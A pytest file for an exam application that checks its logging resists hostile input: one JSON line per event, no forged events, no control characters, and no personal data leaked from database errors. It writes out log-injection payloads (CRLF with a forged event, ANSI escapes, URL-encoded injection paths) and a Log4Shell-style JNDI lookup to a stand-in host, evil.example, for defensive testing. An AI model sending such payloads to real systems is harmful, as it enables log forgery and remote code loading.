"""What is forced into the log, and what a failing statement would tell there (H20)."""

from __future__ import annotations

import json
import logging

import pytest
import structlog
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

from examapp.errors import handle_unexpected
from tests.people.conftest import sign_in

HOSTILE = 'x\r\n{"event":"forged"}\r\n\x1b[31mred\x1b[0m ${jndi:ldap://evil.example/a} \u2028\x00'
SECRETS = ("430527199001010014", "13912345678", "诸葛孔明", "Right-horse-7", "三十个工作日内")


def test_h20_each_event_is_one_line_of_json_whatever_is_in_it(lines):
    log = structlog.get_logger("hostile").bind()
    log.warning("value_refused", address=HOSTILE, name=HOSTILE * 1000)
    logging.getLogger("library").warning("from a library: %s", HOSTILE)
    log.error("unexpected_error", exc_info=ValueError(HOSTILE))
    written = lines()
    assert len(written) == 3
    for line in written:
        reply = json.loads(line)
        assert reply.get("event") != "forged"
        assert not any(ord(sign) < 32 or sign in "\x7f\x9b\u2028\u202e\udc80" for sign in line), (
            "a control character reaches the reader's terminal"
        )
    assert len(written[0]) < 10_000


def test_h20_hostile_requests_write_no_line_of_their_own(world, lines):
    client = world.client()
    headers = {
        "User-Agent": HOSTILE.replace("\r\n", " ").replace("\x00", ""),
        "X-Request-Id": "${jndi:ldap://evil.example/a}",
        "Referer": "x" * 1_000_000,
    }
    for path in (
        "/login",
        "/nowhere%0d%0a%7b%22event%22:%22forged%22%7d",
        "/laws/%0d%0aforged/2020-01-01/",
        "/api/v1/%1b%5b31m",
    ):
        client.get(path, headers=headers)
    sign_in(client, HOSTILE, HOSTILE)
    for line in lines():
        assert "forged" not in json.dumps({key: value for key, value in json.loads(line).items() if key == "event"})
        assert "jndi" not in line


def test_h20_an_error_of_the_database_quotes_no_row_and_no_parameter(app, session, lines, monkeypatch):
    def break_it():
        values = {"unit": 987_654_321, "name": SECRETS[2], "number": SECRETS[0], "position": SECRETS[4]}
        session.execute(
            text(
                "INSERT INTO persons (staff_number, name, unit_id, state, rank, position, created_at, updated_at) "
                "VALUES (:number, :name, :unit, 'on_roster', NULL, :position, now(), now())"
            ),
            values,
        )

    with app.test_request_context("/"), pytest.raises(DBAPIError) as broken, session.begin_nested():
        break_it()
    with app.test_request_context("/"):
        handle_unexpected(broken.value)
    written = "\n".join(lines())
    assert "unexpected_error" in written
    assert not [secret for secret in SECRETS if secret in written], written
